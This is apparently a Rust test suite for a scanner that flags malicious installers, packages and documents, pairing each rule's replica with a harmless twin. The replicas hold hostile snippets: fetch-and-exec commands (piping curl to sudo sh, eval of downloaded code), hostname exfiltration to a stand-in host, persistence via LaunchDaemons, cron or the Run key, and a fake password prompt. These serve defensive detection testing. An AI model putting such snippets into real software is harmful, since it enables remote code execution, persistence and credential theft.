//! Each rule fires on a replica, and does not on its twin: the same outward shape, done the honest way.

use std::collections::BTreeSet;

use madang_artefact::{
    declaration::Declaration,
    judge,
    report::{Severity, Verdict},
    rules::RULES,
};

use crate::{
    facts,
    make::{NODE, PYTHON, SHELL, asar, deb, macho, noise, npm, pe, pkg, plist, postinst, tgz, zip, zip_with},
    report,
};

const FETCH: [&str; 6] = ["_curl_easy_perform", "_posix_spawn", "_gethostname", "_chmod", "_system", "_fork"];
const POST: [&str; 3] = ["multipart/form-data", "/var/tmp/x", "Maintain"];

/// A rule, a replica, its twin.
pub(crate) type Case = (&'static str, Vec<u8>, Vec<u8>);

fn script(name: &str, body: &str) -> Vec<u8> {
    zip(&[(name, format!("{SHELL}{body}").into_bytes())])
}

fn node(body: &str) -> Vec<u8> {
    zip(&[(
        "resources/app.asar",
        asar(&[
            ("package.json", b"{\"name\":\"x\",\"main\":\"main.js\"}".to_vec()),
            ("main.js", format!("{NODE}{body}").into_bytes()),
        ]),
    )])
}

fn setup(body: &str) -> Vec<u8> {
    tgz(&[("x-1/setup.py", format!("{PYTHON}{body}").into_bytes())])
}

fn installer_cases() -> Vec<Case> {
    let visible = ("./Library/x/agent", macho(&["x"], &["_malloc"]));
    let hidden = ("./Applications/X.app/Contents/Resources/.agent", macho(&["x"], &["_malloc"]));
    vec![
        ("A01", pkg("mv /Applications/X.app/Contents/Resources/.x.plist /Library/LaunchDaemons/x.plist", &[]), pkg("mv /Library/x/x.plist /Library/x/y.plist", &[])),
        ("A02", pkg("", &[("./Applications/X.app/.x.plist", plist("x", "/x"))]), pkg("", &[("./Applications/X.app/x.plist", plist("x", "/x"))])),
        ("A03", pkg("cp /Applications/X.app/Contents/Resources/.agent /Library/x/agent\n/Library/x/agent go &", &[hidden]), pkg("/Library/x/agent --version", std::slice::from_ref(&visible))),
        ("A04", pkg("launchctl load /Library/LaunchDaemons/x.plist", &[]), pkg("echo launchctl load x", &[])),
        ("A05", pkg("nohup /Library/x/agent >/dev/null 2>&1 &", std::slice::from_ref(&visible)), pkg("/Library/x/agent", &[visible])),
        ("A06", pkg("", &[]), postinst("")),
        ("A07", postinst("curl -o /tmp/x https://a.invalid/x"), postinst("# curl https://a.invalid/x")),
        ("A08", pkg("rm -f \"$0\"", &[]), pkg("rm -f /Library/x/cache", &[])),
        ("A12", deb(&[], &[("./etc/systemd/system/x.service", b"[Service]\nExecStart=/opt/x/.agent\n[Install]\nWantedBy=multi-user.target\n".to_vec())]), deb(&[], &[("./etc/systemd/system/x.service", b"[Service]\nExecStart=/opt/x/agent\n[Install]\nWantedBy=multi-user.target\n".to_vec())])),
        ("A13", script("install.sh", "(crontab -l; echo '@reboot /opt/x') | crontab -"), script("install.sh", "crontab -l")),
        ("A14", script("install.command", "xattr -dr com.apple.quarantine /Applications/X.app\nopen /Applications/X.app"), script("install.command", "xattr -p com.apple.quarantine /Applications/X.app\nopen /Applications/X.app")),
        ("A15", zip(&[("a.bat", b"@echo off\nexit /b\nreg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v x /d x.exe\n".to_vec())]), zip(&[("a.bat", b"@echo off\nexit /b\nreg add HKCU\\Software\\X /v x /d x.exe\n".to_vec())])),
        ("A17", pkg("security add-trusted-cert -d -k /Library/Keychains/System.keychain x.pem", &[]), pkg("security find-certificate -c x", &[])),
        ("A18", pkg("kextload /Library/Extensions/x.kext", &[]), pkg("kextstat", &[])),
        ("A19", script("a.command", "osascript -e 'display dialog \"Password\" default answer \"\" with hidden answer'"), script("a.command", "osascript -e 'display dialog \"Hello\"'")),
        ("A20", postinst("python3 -c \"exec(__import__('base64').b64decode(x))\""), postinst("python3 -c 'print(1)'")),
        ("A21", pkg("chflags hidden /Library/x/agent", &[]), pkg("chflags nohidden /Library/x/agent", &[])),
        ("A22", postinst("chmod +x /tmp/x\n/tmp/x"), postinst("chmod +x /opt/x/y\n/opt/x/y")),
    ]
}

fn program_cases() -> Vec<Case> {
    let twin = zip(&[("x", macho(&["https://a.invalid/x"], &["_curl_easy_perform"]))]);
    let signed = pe(&["x"], "KERNEL32.dll", &["ExitProcess"], Some(&noise(8192, 3)));
    vec![
        ("B20", zip(&[("x", macho(&POST, &FETCH))]), twin.clone()),
        ("B21", zip(&[("Updater", macho(&["https://a.invalid/x"], &FETCH))]), zip(&[("Updater", macho(&[], &["_malloc"]))])),
        ("B22", zip(&[("a/.x", macho(&["x"], &["_malloc"]))]), zip(&[("a/x", macho(&["x"], &["_malloc"]))])),
        ("B23", pkg("/Library/x/agent Maintain", &[("./Library/x/agent", macho(&["Maintain"], &["_malloc"]))]), pkg("/Library/x/agent Maintain", &[("./Library/x/agent", macho(&["Other"], &["_malloc"]))])),
        ("B24", zip(&[("x.exe", pe(&["UPX!"], "KERNEL32.dll", &["LoadLibraryA"], None).named(b".rdata\0\0", b"UPX0\0\0\0\0"))]), zip(&[("x.exe", pe(&["x"], "KERNEL32.dll", &["LoadLibraryA"], None))])),
        ("B25", zip(&[("x.dll", signed)]), zip(&[("x.dll", pe(&["x"], "KERNEL32.dll", &["ExitProcess"], Some(&[0; 8192])))])),
        ("B26", zip(&[("x", macho(&[std::str::from_utf8(&b"https://a.invalid/".map(|byte| byte ^ 1)).unwrap()], &[]))]), twin.clone()),
        ("B27", twin, zip(&[("x", b"text".to_vec())])),
        ("B33", zip(&[("app/version.dll", pe(&["x"], "KERNEL32.dll", &["ExitProcess"], None))]), zip(&[("app/versions.dll", pe(&["x"], "KERNEL32.dll", &["ExitProcess"], None))])),
        ("B34", zip(&[("x", macho(&["wallet.dat", "logins.json", "libcurl/8"], &[]))]), zip(&[("x", macho(&["libcurl/8"], &[]))])),
        ("B35", zip(&[("x", macho(&[], &["_CGEventTapCreate"]))]), zip(&[("x", macho(&[], &["_malloc"]))])),
        ("B36", zip(&[("x.exe", pe(&["ReflectiveLoader"], "KERNEL32.dll", &["WriteProcessMemory", "CreateRemoteThread"], None))]), zip(&[("x.exe", pe(&[], "KERNEL32.dll", &["ExitProcess"], None))])),
        ("B39", zip(&[("brochure.pdf", pe(&["x"], "KERNEL32.dll", &["ExitProcess"], None))]), zip(&[("brochure.exe", pe(&["x"], "KERNEL32.dll", &["ExitProcess"], None))])),
        ("C41", npm("node a.js", &[("a.js", "require('https').get('https://pastebin.com/raw/x')")]), npm("node a.js", &[("a.js", "console.log('https://a.invalid/')")])),
        ("C42", zip(&[("X.app/Contents/Info.plist", b"<plist><dict><key>SUFeedURL</key><string>http://a.invalid/x</string><key>SUPublicEDKey</key><string>k</string></dict></plist>".to_vec())]), zip(&[("X.app/Contents/Info.plist", b"<plist><dict><key>SUFeedURL</key><string>https://a.invalid/x</string><key>SUPublicEDKey</key><string>k</string></dict></plist>".to_vec())])),
        ("C43", zip(&[("resources/app-update.yml", b"provider: generic\nurl: https://a.invalid/\n".to_vec())]), zip(&[("resources/app-update.yml", b"provider: generic\nurl: https://a.invalid/\npublisherName:\n  - X Ltd\n".to_vec())])),
        ("C44", zip(&[("resources/app-update.yml", b"url: https://a.invalid/\n".to_vec())]), zip(&[("resources/other.yml", b"url: https://a.invalid/\n".to_vec())])),
    ]
}

/// Puts one mark into the place of another.
trait Named {
    fn named(self, from: &[u8], to: &[u8]) -> Vec<u8>;
}

impl Named for Vec<u8> {
    fn named(mut self, from: &[u8], to: &[u8]) -> Vec<u8> {
        let at = self.windows(from.len()).position(|window| window == from).unwrap();
        self[at..at + to.len()].copy_from_slice(to);
        self
    }
}

fn script_cases() -> Vec<Case> {
    let carry = "const cp=require('child_process'),fs=require('fs'),https=require('https'),os=require('os'),crypto=require('crypto');\n";
    let quiet = node("const {autoUpdater}=require('electron-updater');autoUpdater.checkForUpdates()");
    vec![
        ("D45", node(&format!("{carry}fs.writeFileSync(os.tmpdir()+'/.x',b,{{mode:0o755}});cp.exec(x)")), quiet.clone()),
        ("D46", node(&format!("{carry}post('https://a.invalid');crypto.createDecipheriv('aes',k,i);fs.writeFileSync(x,b);cp.exec(x)")), quiet),
        ("D47", npm("node s.js", &[("s.js", "require('https').get('https://a.invalid',r=>eval(r))")]), npm("node s.js", &[("s.js", "console.log(1)")])),
        ("D48", npm("node s.js", &[("s.js", "require('https').get('https://a.invalid/x')")]), npm("", &[("s.js", "require('https').get('https://a.invalid/x')")])),
        ("D49", setup("import base64,urllib.request\nexec(base64.b64decode(urllib.request.urlopen('https://a.invalid').read()))\n"), setup("from setuptools import setup\nsetup(name='x')\n")),
        ("D50", npm("node s.js", &[("s.js", "const r=module['req'+'uire'];r('child'+'_process')[a]()")]), npm("node s.js", &[("s.js", "const cp=require('child_process')")])),
        ("D51", script("i.sh", "curl -fsSL https://a.invalid/i.sh | sudo sh"), script("i.sh", "curl -fsSL https://a.invalid/i.sh -o i.sh")),
        ("D58", npm("", &[("a.js", "exports.get=u=>require('https').get(u)"), ("b.js", "exports.open=(d)=>require('crypto').createDecipheriv('aes',d)"), ("c.js", "require('fs').writeFileSync(p,b);require('child_process').exec(p)")]), npm("", &[("a.js", "exports.get=u=>require('https').get(u)"), ("c.js", "require('fs').writeFileSync(p,b)")])),
        ("D59", npm("node -e \\\"require('https').get('https://a.invalid',eval)\\\"", &[]), npm("node-gyp rebuild", &[])),
        ("D60", zip(&[("a.js", format!("{NODE}const os=require('os');require('https').get('https://a.invalid/'+os.hostname(),r=>eval(atob(r)))").into_bytes())]), zip(&[("a.js", format!("{NODE}require('https').get('https://a.invalid/',r=>JSON.parse(r))").into_bytes())])),
        ("D61", node(&format!("{carry}fs.writeFileSync(os.homedir()+'/Library/LaunchAgents/x.plist',p);cp.exec('launchctl load x');https.get(u)")), node("console.log('/Library/LaunchAgents')")),
        ("D63", zip(&[("Quote.vbs", b"Stop\nSet s=CreateObject(\"WScript.Shell\")\nExecuteGlobal x\n".to_vec())]), zip(&[("Quote.vbs", b"Stop\nMsgBox \"Hello\"\n".to_vec())])),
        ("D62", npm("node s.js", &[("s.js", "")]), npm("", &[("s.js", "")])),
    ]
}

/// A shortcut of Windows with nothing but what it starts.
pub(crate) fn shortcut(target: &str, arguments: &str) -> Vec<u8> {
    let mut shortcut = b"L\0\0\0\x01\x14\x02\0\0\0\0\0\xc0\0\0\0\0\0\0F".to_vec();
    shortcut.extend(0x28_u32.to_le_bytes());
    shortcut.resize(76, 0);
    for text in [target, arguments] {
        shortcut.extend((text.len() as u16).to_le_bytes());
        shortcut.extend(text.as_bytes());
    }
    shortcut
}

#[test]
fn a_shortcut_named_after_the_program_beside_it_is_told_and_a_lure_blocks() {
    let exe = || pe(&["x"], "KERNEL32.dll", &["ExitProcess"], None);
    let own = |link: &str, target: &str| {
        let mut files = vec![(link, shortcut(target, "--profile x")), ("Chart.exe", exe())];
        if target.contains(".hide") {
            files.push((".hide/Chart.exe", exe()));
        }
        report(&zip(&files)).verdict
    };
    assert_eq!(own("Chart (portable).lnk", ".\\Chart.exe"), Verdict::Clear);
    assert_eq!(own("Annual report.lnk", ".\\Chart.exe"), Verdict::Block);
    assert_eq!(own("Chart (portable).lnk", ".\\.hide\\Chart.exe"), Verdict::Block);
}

fn document_cases() -> Vec<Case> {
    let exe = || pe(&["x"], "KERNEL32.dll", &["ExitProcess"], None);
    let office = |extra: &[(&str, Vec<u8>)]| {
        let mut files = vec![("[Content_Types].xml", b"<Types/>".to_vec())];
        files.extend(extra.iter().cloned());
        zip(&files)
    };
    let mut stub = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1".to_vec();
    stub.resize(512, 0);
    stub.extend(b"Attribut\0e VB_Name AutoOpen Shell");
    let shortcut = shortcut("cmd.exe", "/c x.exe");
    let pdf = |action: &str| {
        format!(
            "%PDF-1.7\n1 0 obj<</Type/Catalog/OpenAction {action}>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"
        )
        .into_bytes()
    };
    vec![
        ("D52", office(&[("word/vbaProject.bin", stub)]), office(&[("word/document.xml", b"<d/>".to_vec())])),
        ("D53", pdf("<</S/Launch/F(x.invalid)>>"), pdf("[2 0 R/Fit]")),
        ("D54", pdf("<</S/JavaScript/JS(x)>>"), pdf("[2 0 R/Fit]")),
        ("D55", zip(&[("paper\u{202e}fdp.exe", exe())]), zip(&[("paper.exe", exe())])),
        (
            "D56",
            zip(&[("a.lnk", shortcut), ("x.exe", exe())]),
            zip(&[("a.url", b"[InternetShortcut]\n".to_vec()), ("x.exe", exe())]),
        ),
        ("E57", zip_with(&[("x.exe", exe())], str::to_owned, 1), zip(&[("x.exe", exe())])),
        (
            "E58",
            zip(&[("x.rar", b"Rar!\x1a\x07\x01\0 and so on".to_vec())]),
            zip(&[("x.txt", b"Rar!".to_vec())]),
        ),
        (
            "E59",
            zip_with(&[("x.txt", b"x".to_vec())], |_| "x.exe".into(), 0),
            zip(&[("x.txt", b"x".to_vec())]),
        ),
    ]
}

fn all_cases() -> Vec<Case> {
    [
        installer_cases(),
        program_cases(),
        script_cases(),
        document_cases(),
        crate::starts::cases(),
        crate::bytecode::cases(),
        crate::conduct::cases(),
        crate::hidden::cases(),
        crate::pages::cases(),
    ]
    .concat()
}

#[test]
fn each_rule_fires_on_its_replica_and_not_on_the_twin() {
    for (id, replica, twin) in all_cases() {
        let fires = |bytes: &[u8]| {
            report(bytes)
                .findings
                .iter()
                .any(|finding| finding.id == id && (finding.severity > Severity::Info || is_fact(id)))
        };
        assert!(
            fires(&replica),
            "{id} does not fire: {:?}",
            report(&replica).findings.iter().map(|finding| &finding.id).collect::<Vec<_>>()
        );
        assert!(!fires(&twin), "{id} fires on the twin: {:?}", report(&twin).findings);
    }
}

fn is_fact(id: &str) -> bool {
    matches!(id, "A06" | "B23" | "B27" | "B35" | "C44" | "D62" | "B34")
}

/// Rules whose replicas stand in other tests: they need a declaration, an earlier release, a signature, or a bug of ours.
const ELSEWHERE: [&str; 9] = ["A09", "B29", "B31", "B32", "B37", "B40", "C40", "E60", "F58"];

#[test]
fn every_rule_has_a_replica() {
    let tried: BTreeSet<&str> = all_cases().iter().map(|(id, ..)| *id).chain(ELSEWHERE).collect();
    let missing: Vec<&str> = RULES.iter().map(|rule| rule.id).filter(|id| !tried.contains(id)).collect();
    assert_eq!(missing, [""; 0]);
}

#[test]
fn a_window_of_commands_with_a_script_beside_is_a_matter_of_review() {
    let archive = |link: &str, arguments: &str| {
        report(&zip(&[
            (link, shortcut("cmd.exe", arguments)),
            ("Chart/bin/env.cmd", b"@set PATH=%~dp0;%PATH%\r\n".to_vec()),
            ("Chart/bin/.env.cmd", b"@set PATH=%~dp0;%PATH%\r\n".to_vec()),
        ]))
        .verdict
    };
    assert_eq!(archive("Chart/Chart prompt.lnk", r#"/k "bin\env.cmd""#), Verdict::Review);
    for (link, arguments) in [
        ("Chart/Agenda.pdf.lnk", r#"/k "bin\env.cmd""#),
        ("Chart/Chart prompt.lnk", r#"/c "bin\env.cmd""#),
        ("Chart/Chart prompt.lnk", r#"/k "bin\.env.cmd""#),
        ("Chart/Chart prompt.lnk", r#"/k "bin\other.cmd""#),
        ("Chart/Chart prompt.lnk", r"/k bin\env.cmd & start x"),
    ] {
        assert_eq!(archive(link, arguments), Verdict::Block, "{link} {arguments}");
    }
}

#[test]
fn what_blocks_in_the_table_blocks_on_its_replica() {
    let blocking = [
        "A01", "A02", "A03", "A12", "A14", "A17", "B25", "B39", "D45", "D47", "D49", "D53", "D55", "D56",
        "D70", "A30",
    ];
    for (id, replica, _) in all_cases().into_iter().filter(|(id, ..)| blocking.contains(id)) {
        assert_eq!(report(&replica).verdict, Verdict::Block, "{id}");
    }
}

#[test]
fn a_declared_job_is_calm_and_a_denied_one_blocks() {
    let facts = facts(&pkg("launchctl load /Library/LaunchDaemons/x.plist", &[]));
    let said = |auto_start| Declaration { auto_start, ..Declaration::default() };
    assert_eq!(judge(&facts, None, None).verdict, Verdict::Review);
    assert_eq!(judge(&facts, Some(&said(Some(true))), None).verdict, Verdict::Clear);
    let denied = judge(&facts, Some(&said(Some(false))), None);
    assert_eq!(denied.verdict, Verdict::Block);
    assert!(
        denied.findings[0].denied
            && denied.findings[0].sentence.ends_with("The declaration says no to this.")
    );
}

#[test]
fn hosts_and_signers_are_held_against_the_declaration() {
    let bytes =
        pkg("/Library/x/agent go &", &[("./Library/x/agent", macho(&["https://other.invalid/x"], &FETCH))]);
    let facts = facts(&bytes);
    let said = |domain: &str| Declaration {
        domains: vec![domain.into()],
        auto_start: Some(true),
        ..Declaration::default()
    };
    let foreign = |domain: &str| {
        judge(&facts, Some(&said(domain)), None)
            .findings
            .iter()
            .any(|finding| finding.id == "C40" && finding.severity == Severity::Review)
    };
    assert!(foreign("mine.invalid"));
    assert!(!foreign("other.invalid"));
}

#[test]
fn a_codec_that_newly_talks_and_starts_programs_blocks() {
    let release = |imports: &[&str]| {
        facts(&zip(&[("app/ffmpeg.dll", pe(&["avcodec"], "KERNEL32.dll", imports, None))]))
    };
    let (before, after) =
        (release(&["ExitProcess"]), release(&["ExitProcess", "WinHttpOpen", "CreateProcessW"]));
    let changed = judge(&after, None, Some(&before));
    assert_eq!(changed.verdict, Verdict::Block);
    assert!(
        changed.findings.iter().any(|finding| finding.id == "F58" && finding.severity == Severity::Block)
    );
    assert_eq!(judge(&before, None, Some(&before)).verdict, Verdict::Clear);
}

#[test]
fn a_script_of_the_installer_with_other_lines_is_shown() {
    let (before, after) = (facts(&postinst("echo 1")), facts(&postinst("echo 2")));
    let changed = judge(&after, None, Some(&before));
    let finding = changed.findings.iter().find(|finding| finding.id == "F58").expect("a difference");
    assert_eq!(finding.evidence[0].text, "-echo 1\n+echo 2");
}
